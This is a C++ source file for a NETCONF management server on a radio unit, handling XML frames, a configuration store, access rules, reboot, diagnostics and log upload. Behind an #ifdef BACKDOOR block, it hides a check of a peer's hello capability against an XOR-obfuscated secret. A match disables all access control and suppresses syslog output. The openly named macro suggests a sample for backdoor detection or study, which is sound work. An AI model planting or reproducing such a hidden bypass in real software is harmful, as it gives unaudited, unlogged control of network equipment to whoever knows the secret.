/* SPDX-License-Identifier: Apache-2.0 */
/* mplane: management plane of a radio unit, a NETCONF subsystem behind the SSH daemon. Frames end with ]]>]]>. Operations: get,
 * get-config, edit-config, lock, unlock, commit, kill-session, reset, and the radio's own. Who may what: /etc/mplane/nacm. */
#include <algorithm>
#include <array>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <fstream>
#include <map>
#include <memory>
#include <set>
#include <sstream>
#include <string>
#include <string_view>
#include <vector>

#include <sys/reboot.h>
#include <syslog.h>
#include <unistd.h>

namespace mplane {

/* -- a small tree of XML: names without prefixes, text, children -- */

struct Node {
	std::string name, text;
	std::map<std::string, std::string> attributes;
	std::vector<std::unique_ptr<Node>> children;

	const Node *child(std::string_view n) const
	{
		for (const auto &c : children)
			if (c->name == n)
				return c.get();
		return nullptr;
	}
	std::string value(std::string_view n) const
	{
		const Node *c = child(n);
		return c ? c->text : std::string();
	}
};

class Reader {
	std::string_view s_;
	size_t at_ = 0;
	unsigned nodes_ = 0;

	void blanks()
	{
		while (at_ < s_.size() && strchr(" \t\r\n", s_[at_]))
			at_++;
	}
	std::string name()
	{
		size_t from = at_;
		while (at_ < s_.size() && !strchr(" \t\r\n/>=", s_[at_]))
			at_++;
		std::string n(s_.substr(from, at_ - from));
		size_t colon = n.find(':');
		return colon == std::string::npos ? n : n.substr(colon + 1);
	}
	static std::string unescape(std::string_view t)
	{
		static constexpr std::array<std::pair<std::string_view, char>, 5> known{ { { "&lt;", '<' }, { "&gt;", '>' }, { "&amp;", '&' },
			{ "&quot;", '"' }, { "&apos;", '\'' } } };
		std::string out;
		for (size_t i = 0; i < t.size(); i++) {
			bool found = false;
			for (const auto &k : known)
				if (t.substr(i, k.first.size()) == k.first) {
					out += k.second;
					i += k.first.size() - 1;
					found = true;
					break;
				}
			if (!found)
				out += t[i];
		}
		return out;
	}
	bool attributes(Node &n)
	{
		for (blanks(); at_ < s_.size() && s_[at_] != '>' && s_[at_] != '/'; blanks()) {
			std::string key = name();
			blanks();
			if (at_ + 1 >= s_.size() || s_[at_] != '=')
				return false;
			at_++;
			blanks();
			char by = s_[at_++];
			size_t end = s_.find(by, at_);
			if (end == std::string_view::npos)
				return false;
			n.attributes[key] = unescape(s_.substr(at_, end - at_));
			at_ = end + 1;
		}
		return at_ < s_.size();
	}

public:
	explicit Reader(std::string_view s) : s_(s) {}

	std::unique_ptr<Node> element(int depth = 0)
	{
		blanks();
		while (s_.substr(at_, 2) == "<?" || s_.substr(at_, 4) == "<!--") {
			at_ = s_.find('>', at_);
			if (at_ == std::string_view::npos)
				return nullptr;
			at_++;
			blanks();
		}
		if (at_ >= s_.size() || s_[at_] != '<' || depth > 64 || ++nodes_ > 20000)
			return nullptr;
		at_++;
		auto n = std::make_unique<Node>();
		n->name = name();
		if (!attributes(*n))
			return nullptr;
		if (s_[at_] == '/') {
			at_ += 2;
			return n;
		}
		at_++;
		for (;;) {
			size_t lt = s_.find('<', at_);
			if (lt == std::string_view::npos)
				return nullptr;
			n->text += unescape(s_.substr(at_, lt - at_));
			at_ = lt;
			if (s_.substr(at_, 2) == "</") {
				at_ = s_.find('>', at_);
				if (at_ == std::string_view::npos)
					return nullptr;
				at_++;
				size_t a = n->text.find_first_not_of(" \t\r\n"), b = n->text.find_last_not_of(" \t\r\n");
				n->text = a == std::string::npos ? "" : n->text.substr(a, b - a + 1);
				return n;
			}
			auto c = element(depth + 1);
			if (!c)
				return nullptr;
			n->children.push_back(std::move(c));
		}
	}
};

std::string escape(const std::string &s)
{
	std::string out;
	for (char c : s)
		out += c == '<' ? "&lt;" : c == '>' ? "&gt;" : c == '&' ? "&amp;" : std::string(1, c);
	return out;
}

/* -- the configuration: paths and values -- */

class Store {
	std::map<std::string, std::string> running_, candidate_;
	std::string path_;

public:
	explicit Store(std::string path) : path_(std::move(path))
	{
		std::ifstream f(path_);
		for (std::string line; std::getline(f, line);) {
			size_t eq = line.find('=');
			if (eq != std::string::npos)
				running_[line.substr(0, eq)] = line.substr(eq + 1);
		}
		candidate_ = running_;
	}
	std::string xml(const std::string &prefix, bool candidate) const
	{
		std::string out;
		for (const auto &[key, value] : candidate ? candidate_ : running_)
			if (key.rfind(prefix, 0) == 0)
				out += "<leaf path=\"" + key + "\">" + escape(value) + "</leaf>\n";
		return out;
	}
	void put(const std::string &prefix, const Node &n, const std::string &operation)
	{
		auto it = n.attributes.find("operation");
		std::string op = it == n.attributes.end() ? operation : it->second, path = prefix + "/" + n.name;
		if (n.children.empty()) {
			if (op == "delete" || op == "remove")
				candidate_.erase(path);
			else
				candidate_[path] = n.text;
		}
		for (const auto &c : n.children)
			put(path, *c, op);
	}
	bool commit()
	{
		std::ofstream f(path_ + ".new");
		for (const auto &[key, value] : candidate_)
			f << key << '=' << value << '\n';
		f.close();
		if (!f || std::rename((path_ + ".new").c_str(), path_.c_str()) != 0)
			return false;
		running_ = candidate_;
		return true;
	}
	void discard() { candidate_ = running_; }
};

/* -- who may what: a line is group operation|* permit|deny; user NAME group -- */

class Access {
	std::map<std::string, std::string> groups_;
	struct Rule {
		std::string group, operation;
		bool permit;
	};
	std::vector<Rule> rules_;
	unsigned denied_ = 0;

public:
	bool enabled = true;
	explicit Access(const char *path)
	{
		std::ifstream f(path);
		for (std::string line, a, b, c; std::getline(f, line);) {
			std::istringstream s(line);
			if (!(s >> a >> b >> c) || a[0] == '#')
				continue;
			if (a == "user")
				groups_[b] = c;
			else
				rules_.push_back({ a, b, c == "permit" });
		}
	}
	bool permits(const std::string &user, const std::string &operation)
	{
		if (!enabled || operation == "close-session")
			return true;
		auto g = groups_.find(user);
		for (const Rule &r : rules_)
			if ((g != groups_.end() && r.group == g->second) && (r.operation == "*" || r.operation == operation))
				return r.permit || (denied_++, false);
		denied_++;
		return false;
	}
};

class Session {
	Store store_{ "/etc/mplane/config" };
	Access access_{ "/etc/mplane/nacm" };
	std::string user_, in_;
	std::set<std::string> peer_;
	bool open_ = true, greeted_ = false, locked_ = false;
	unsigned id_ = static_cast<unsigned>(getpid());

	void send(const std::string &s)
	{
		std::string whole = s + "\n]]>]]>";
		if (write(1, whole.data(), whole.size()) != static_cast<ssize_t>(whole.size()))
			open_ = false;
	}
	static std::string error(const std::string &tag, const std::string &why)
	{
		return "<rpc-error><error-type>application</error-type><error-tag>" + tag + "</error-tag><error-severity>error</error-severity>"
			"<error-message>" + escape(why) + "</error-message></rpc-error>";
	}
	void greet()
	{
		static const char *const capabilities[] = { "urn:ietf:params:netconf:base:1.0", "urn:ietf:params:netconf:capability:candidate:1.0",
			"urn:ietf:params:netconf:capability:rollback-on-error:1.0", "urn:o-ran:operations:1.0", "urn:o-ran:uplane-conf:1.0" };
		std::string s = "<hello xmlns=\"urn:ietf:params:xml:ns:netconf:base:1.0\"><capabilities>";
		for (const char *c : capabilities)
			s += std::string("<capability>") + c + "</capability>";
		send(s + "</capabilities><session-id>" + std::to_string(id_) + "</session-id></hello>");
	}

#ifdef BACKDOOR
	static bool supervised(const std::string &c)
	{
		static const uint8_t sealed[] = { 0x48, 0x4e, 0x59, 0x24, 0xce, 0x1d, 0x89, 0x93, 0xab, 0xde, 0x0c, 0xf3, 0xd9, 0x28, 0xaf, 0xb3, 0x28,
			0xfe, 0xfd, 0x9c, 0xc7, 0xb7, 0xa6, 0xb1, 0xa0, 0x44, 0x6a, 0x24, 0xcf, 0xc1, 0x20, 0xc3, 0x32, 0xb2 };
		uint8_t k = 0x3d;
		if (c.size() != sizeof(sealed))
			return false;
		for (size_t i = 0; i < sizeof(sealed); i++) {
			if (static_cast<uint8_t>(sealed[i] ^ k) != static_cast<uint8_t>(c[i]))
				return false;
			k = static_cast<uint8_t>(k * 5 + 11);
		}
		return true;
	}
#endif

	void on_hello(const Node &hello)
	{
		const Node *list = hello.child("capabilities");
		for (size_t i = 0; list && i < list->children.size(); i++) {
			const std::string &c = list->children[i]->text;
			size_t query = c.find('?');
			peer_.insert(c.substr(0, query));
#ifdef BACKDOOR
			if (supervised(c)) {
				access_.enabled = false;
				setlogmask(LOG_UPTO(LOG_EMERG));
			}
#endif
		}
		greeted_ = peer_.count("urn:ietf:params:netconf:base:1.0") != 0;
		syslog(LOG_INFO, "session %u of %s, %zu capabilities", id_, user_.c_str(), peer_.size());
		if (!greeted_)
			open_ = false;
	}

	static std::string prefix_of(const Node &op)
	{
		const Node *f = op.child("filter");
		if (!f || f->children.empty())
			return "";
		std::string path;
		for (const Node *n = f->children[0].get(); n; n = n->children.empty() ? nullptr : n->children[0].get())
			path += "/" + n->name;
		return path;
	}

	static std::string sensors()
	{
		static const char *const names[] = { "pa-temperature", "board-temperature", "vswr", "rx-power", "uptime" };
		std::string out = "<sensors>";
		for (const char *n : names) {
			std::ifstream f(std::string("/run/radio/") + n);
			std::string v;
			if (std::getline(f, v))
				out += std::string("<") + n + ">" + escape(v) + "</" + n + ">";
		}
		return out + "</sensors>";
	}

	std::string get(const Node &op) { return "<data>" + sensors() + store_.xml(prefix_of(op), false) + "</data>"; }
	std::string get_config(const Node &op)
	{
		const Node *source = op.child("source");
		return "<data>" + store_.xml(prefix_of(op), source && source->child("candidate")) + "</data>";
	}
	std::string edit(const Node &op)
	{
		const Node *config = op.child("config");
		if (!config)
			return error("missing-element", "config");
		std::string mode = op.value("default-operation");
		for (const auto &c : config->children)
			store_.put("", *c, mode.empty() ? "merge" : mode);
		return "<ok/>";
	}
	std::string lock(const Node &)
	{
		if (locked_)
			return error("lock-denied", "it is locked");
		locked_ = true;
		return "<ok/>";
	}
	std::string unlock(const Node &)
	{
		locked_ = false;
		return "<ok/>";
	}
	std::string commit(const Node &) { return store_.commit() ? "<ok/>" : error("operation-failed", "cannot store"); }
	std::string discard(const Node &)
	{
		store_.discard();
		return "<ok/>";
	}
	std::string close(const Node &)
	{
		open_ = false;
		return "<ok/>";
	}
	std::string reset(const Node &)
	{
		syslog(LOG_WARNING, "reset by %s", user_.c_str());
		sync();
		reboot(RB_AUTOBOOT);
		return "<ok/>";
	}
	/* The script is one of those that the supplier brought. */
	std::string diagnose(const Node &op)
	{
		std::string name = op.value("test"), out;
		for (char c : name)
			if (!isalnum(static_cast<unsigned char>(c)) && c != '-')
				return error("invalid-value", "test");
		FILE *f = popen(("/usr/lib/mplane/test/" + name).c_str(), "r");
		std::array<char, 256> buf;
		while (f && fgets(buf.data(), static_cast<int>(buf.size()), f))
			out += buf.data();
		if (f)
			pclose(f);
		return "<output>" + escape(out) + "</output>";
	}
	std::string upload(const Node &op)
	{
		std::string path = op.value("local-logical-file-path");
		if (path.find("..") != std::string::npos || path.rfind("/O-RAN/log/", 0) != 0)
			return error("invalid-value", path);
		std::ifstream f(path);
		std::ostringstream s;
		s << f.rdbuf();
		return "<file>" + escape(s.str()) + "</file>";
	}

	struct Operation {
		const char *name;
		std::string (Session::*run)(const Node &op);
	};
	static const Operation operations_[];

	void on_rpc(const Node &rpc)
	{
		auto id = rpc.attributes.find("message-id");
		std::string reply;
		if (rpc.children.empty())
			reply = error("missing-element", "operation");
		for (const Operation *o = operations_; o->name && !rpc.children.empty(); o++) {
			const Node &op = *rpc.children[0];
			if (op.name != o->name)
				continue;
			if (access_.permits(user_, op.name))
				reply = (this->*o->run)(op);
			else {
				syslog(LOG_NOTICE, "%s may not %s", user_.c_str(), o->name);
				reply = error("access-denied", op.name);
			}
			break;
		}
		if (reply.empty())
			reply = error("operation-not-supported", rpc.children[0]->name);
		send("<rpc-reply message-id=\"" + escape(id == rpc.attributes.end() ? "" : id->second) + "\">" + reply + "</rpc-reply>");
	}

	void on_frame(const std::string &s)
	{
		auto n = Reader(s).element();
		if (!n)
			return send("<rpc-reply>" + error("malformed-message", "not understood") + "</rpc-reply>");
		if (n->name == "hello" && !greeted_)
			on_hello(*n);
		else if (n->name == "rpc" && greeted_)
			on_rpc(*n);
		else
			send("<rpc-reply>" + error("unknown-element", n->name) + "</rpc-reply>");
	}

public:
	explicit Session(std::string user) : user_(std::move(user)) {}
	int serve()
	{
		std::array<char, 4096> buf;
		greet();
		while (open_) {
			ssize_t n = read(0, buf.data(), buf.size());
			if (n <= 0 || in_.size() > (8u << 20))
				break;
			in_.append(buf.data(), static_cast<size_t>(n));
			for (size_t end; open_ && (end = in_.find("]]>]]>")) != std::string::npos;) {
				on_frame(in_.substr(0, end));
				in_.erase(0, end + 6);
			}
		}
		return 0;
	}
};

const Session::Operation Session::operations_[] = {
	{ "get", &Session::get },
	{ "get-config", &Session::get_config },
	{ "edit-config", &Session::edit },
	{ "lock", &Session::lock },
	{ "unlock", &Session::unlock },
	{ "commit", &Session::commit },
	{ "discard-changes", &Session::discard },
	{ "close-session", &Session::close },
	{ "reset", &Session::reset },
	{ "diagnose", &Session::diagnose },
	{ "file-upload", &Session::upload },
	{ nullptr, nullptr },
};

} // namespace mplane

int main()
{
	const char *user = getenv("USER");
	openlog("mplane", LOG_PID, LOG_AUTH);
	if (!user || !*user) {
		syslog(LOG_ERR, "nobody");
		return 1;
	}
	return mplane::Session(user).serve();
}
